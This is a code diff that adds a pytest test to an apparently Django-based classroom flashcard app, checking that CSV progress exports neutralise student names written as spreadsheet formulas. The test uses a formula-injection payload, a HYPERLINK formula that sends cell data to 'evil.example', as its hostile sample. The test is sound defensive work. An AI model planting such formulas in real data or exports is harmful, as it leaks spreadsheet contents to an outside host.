@@ -1,6 +1,10 @@
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
+from decks.importers.csv import FORMULA_STARTS
 from decks.models import StudentProfile
 from decks.services.reviews import review_record
 from tests.conftest import make_class, make_deck, make_user
@@ -114,6 +118,17 @@ def test_the_progress_page_exports_csv(client, student, classroom):
     assert response["Content-Type"].startswith("text/csv")
     assert text.splitlines()[0].startswith("student,username,last studied,due,streak")
     assert "sam" in text
+
+
+def test_a_student_name_written_as_a_formula_is_exported_as_text(client, classroom):
+    hostile = make_user("mallory", first_name='=HYPERLINK("http://evil.example/?"&A1,"klik")')
+    classroom.students.add(hostile)
+    client.force_login(classroom.teachers.get())
+    response = client.get(reverse("class_progress", args=[classroom.pk]) + "?format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    names = [row[0] for row in rows[1:]]
+    assert """'=HYPERLINK("http://evil.example/?"&A1,"klik")""" in names
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
 
 
 def test_a_teacher_regenerates_the_join_code(client, classroom):
